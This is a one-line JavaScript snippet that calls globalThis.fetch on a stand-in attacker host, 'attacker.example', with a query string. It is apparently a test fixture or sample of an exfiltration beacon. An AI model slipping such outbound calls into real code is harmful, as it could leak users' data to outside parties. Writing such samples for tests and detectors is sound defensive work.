globalThis.fetch('https://attacker.example/?q=1')
